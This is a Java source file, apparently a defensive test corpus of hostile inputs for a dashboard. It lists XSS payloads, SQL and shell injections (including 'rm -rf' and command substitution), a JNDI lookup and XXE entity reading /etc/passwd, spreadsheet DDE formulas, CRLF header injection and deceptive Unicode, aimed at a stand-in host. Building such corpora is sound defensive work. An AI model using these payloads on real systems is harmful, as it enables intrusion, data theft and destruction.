package org.muniment.dashboard.hostile;

import java.util.List;

/**
 * What strangers and careless people type. Markup carries the word {@value #MARK}, in a tag, an
 * attribute or a script that would set a variable of that name.
 */
public final class Corpus {
  /** Stands where it would act, if anything acted. */
  public static final String MARK = "pwned";

  /**
   * @param id for the report of a failure
   * @param attacks what would be harmed
   */
  public record Attack(String id, String attacks, String text) {
    @Override
    public String toString() {
      return id;
    }
  }

  public static final List<Attack> ALL =
      List.of(
          // HTML, and what pages make of it
          new Attack("script", "HTML", "<script>window.pwned=1</script>"),
          new Attack("img", "HTML", "<img src=x onerror=window.pwned=1>"),
          new Attack("svg", "HTML", "<svg/onload=window.pwned=1>"),
          new Attack("own-tag", "HTML", "<pwned-tag pwned=1>x</pwned-tag>"),
          new Attack("attribute", "an attribute", "\" onmouseover=\"window.pwned=1\" pwned=\""),
          new Attack(
              "attribute-single", "an attribute", "' autofocus onfocus='window.pwned=1' x='"),
          new Attack("attribute-bare", "an attribute", "x onclick=window.pwned=1 pwned"),
          new Attack("end-of-title", "HTML", "</title></textarea></style><pwned-tag>"),
          new Attack("end-of-script", "a script's text", "</script><script>pwned=1</script>"),
          new Attack("comment", "HTML", "--><pwned-tag><!--"),
          new Attack("cdata", "XML and SVG", "]]><pwned-tag/><![CDATA["),
          new Attack("entity", "unescaping twice", "&lt;img src=x onerror=pwned=1&gt;"),
          new Attack("numeric", "unescaping twice", "&#60;img src=x onerror=pwned=1&#62;"),
          new Attack("javascript", "a link", "javascript:window.pwned=1"),
          new Attack("data", "a link", "data:text/html,<script>window.pwned=1</script>"),
          new Attack("foreign", "a link", "//pwned.example/x"),
          new Attack("meta", "HTML", "<meta http-equiv=refresh content=0;url=//pwned.example>"),
          new Attack("base", "every link", "<base href=//pwned.example/>"),
          new Attack("form", "forms", "</form><form action=//pwned.example><input name=pwned>"),
          new Attack("style", "a style", "x;background:url(//pwned.example/)}*{color:red"),
          new Attack("htmx", "htmx", "<b hx-get=//pwned.example hx-trigger=load>x</b>"),
          new Attack("half-width", "filters", "＜script＞window.pwned=1＜/script＞"),
          // templates and messages
          new Attack("jte", "a template", "${pwned} @if(true) !{var pwned=1;}"),
          new Attack("message", "MessageFormat", "{0} {1,number} '{' ''"),
          new Attack("percent", "String.format", "%s%n%n%x%1$s %"),
          new Attack(
              "angular", "templates in a browser", "{{constructor.constructor('pwned=1')()}}"),
          new Attack("el", "expressions", "${jndi:ldap://pwned.example/a} #{1+1}"),
          // spreadsheets
          new Attack("formula", "a spreadsheet", "=HYPERLINK(\"http://pwned.example\",\"x\")"),
          new Attack("dde", "a spreadsheet", "=cmd|' /C calc'!A0"),
          new Attack("plus", "a spreadsheet", "+1+cmd|' /C calc'!A0"),
          new Attack("minus", "a spreadsheet", "-2+3+cmd|' /C calc'!A0"),
          new Attack("at", "a spreadsheet", "@SUM(1+1)*cmd|' /C calc'!A0"),
          new Attack("wide-equals", "a spreadsheet", "＝1＋1"),
          new Attack("cells", "CSV", "a\",\"=1+1\",\"b"),
          new Attack("separators", "CSV", "a,b;c|d"),
          // databases and shells
          new Attack("sql", "SQL", "'; DROP TABLE sensor; --"),
          new Attack("sql-or", "SQL", "' OR '1'='1"),
          new Attack("like", "SQL LIKE", "%_\\%"),
          new Attack("shell", "a shell", "$(touch /tmp/pwned) `id` ; rm -rf x | cat"),
          new Attack("path", "files", "../../../../etc/passwd"),
          new Attack("windows-path", "files", "..\\..\\con.txt:stream"),
          new Attack("xml", "XML", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;"),
          new Attack("json", "JSON", "\",\"role\":\"administrator\",\"x\":\""),
          new Attack("yaml", "YAML", "!!javax.script.ScriptEngineManager [] # : - &a *a"),
          new Attack("prototype", "scripts", "__proto__"),
          // lines and headers
          new Attack("crlf", "headers and logs", "x\r\nX-Pwned: 1\r\n\r\n<pwned-tag>"),
          new Attack("lf", "headers and logs", "x\nX-Pwned: 1"),
          new Attack("cr", "headers and logs", "x\rX-Pwned: 1"),
          new Attack("encoded-crlf", "headers", "x%0d%0aX-Pwned:%201"),
          new Attack("wide-crlf", "headers cut to bytes", "x嘍嘊X-Pwned: 1"),
          new Attack("line-separator", "scripts and logs", "x\u2028window.pwned=1\u2029"),
          new Attack("tab", "CSV and logs", "x\ty"),
          new Attack("nul", "C programs", "x\u0000y"),
          new Attack("escape", "terminals", "\u001b[2J\u001b[31mpwned\u0007"),
          new Attack("c1", "terminals", "x\u009b31mpwned\u0085y"),
          // what people see
          new Attack("bidi", "readers", "21\u202e4.12\u202c %"),
          new Attack("isolate", "readers", "a\u2066b\u2067c\u2068d\u2069"),
          new Attack("mark", "readers", "a\u200eb\u200fc"),
          new Attack("zero-width", "readers", "R\u200b1\u200c\u200d\u2060\ufeff"),
          new Attack("soft-hyphen", "readers", "R\u00ad1"),
          new Attack("tags", "readers", "R1\udb40\udc61\udb40\udc62"),
          new Attack("filler", "readers", "\u3164\uffa0\u115f"),
          new Attack("blank", "readers", "\u2800\u3000\u00a0"),
          new Attack("look-alike", "readers", "Раураl库房"),
          new Attack("radical", "readers", "⼀號⾦庫"),
          new Attack("marks", "the line", "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307"),
          new Attack("right-to-left", "the line", "مخزن ١ חדר"),
          new Attack("emoji", "the line", "🗄️👩‍🔬🇨🇳"),
          new Attack("rare", "the line", "𠮷𪚥\ue000"),
          new Attack("half", "UTF-8", "x\ud800y"),
          new Attack("other-half", "UTF-8", "x\udc00"),
          new Attack("noncharacter", "UTF-8", "x\uffff\ufdd0"),
          // bounds
          new Attack("empty", "bounds", ""),
          new Attack("spaces", "bounds", "   "),
          new Attack("200", "bounds", "长".repeat(200)),
          new Attack("201", "bounds", "长".repeat(201)),
          new Attack("one-word", "the line", "W".repeat(200)),
          new Attack("10k", "bounds", "<img src=x onerror=pwned=1>".repeat(400)),
          new Attack("10k-wide", "bounds", "档".repeat(10_000)),
          new Attack("10k-hidden", "bounds", "\u202e".repeat(10_000)),
          // words that are numbers, or nothing, to somebody
          new Attack("null", "JSON and databases", "null"),
          new Attack("unknown", "codes", "unknown"),
          new Attack("true", "YAML", "true"),
          new Attack("nan", "numbers", "NaN"),
          new Attack("infinity", "numbers", "1e999"),
          new Attack("negative", "numbers", "-1"),
          new Attack("sum", "numbers", "0x7fffffff"),
          new Attack("barcode", "codes", "00042"),
          new Attack("date", "a spreadsheet", "1-2"),
          new Attack("code", "codes", "R1"));

  private Corpus() {}
}
